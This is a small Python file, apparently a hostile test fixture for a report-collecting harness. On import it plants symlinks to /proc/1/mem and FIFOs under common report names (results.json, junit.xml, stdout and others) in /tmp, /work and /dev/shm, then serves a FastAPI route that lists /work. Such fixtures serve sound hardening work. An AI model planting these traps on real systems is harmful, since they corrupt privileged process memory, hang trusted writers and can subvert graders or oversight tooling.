"""A report written through a link lands in a file that the app chose, and a pipe in its place
makes the writer wait forever. The trusted side opens no path below the app's folders.
"""

import os

from fastapi import FastAPI

NAMES = ("results.json", "junit.xml", "report.xml", "stdout", "stderr", "output", "result")
for place in ("/tmp", "/work", "/dev/shm"):
    for number, name in enumerate(NAMES):
        path = os.path.join(place, name)
        try:
            if number % 2:
                os.mkfifo(path)
            else:
                os.symlink("/proc/1/mem", path)
        except OSError:
            continue

app = FastAPI()


@app.api_route("/{path:path}", methods=["GET", "POST"])
def anything(path: str):
    return sorted(os.listdir("/work"))
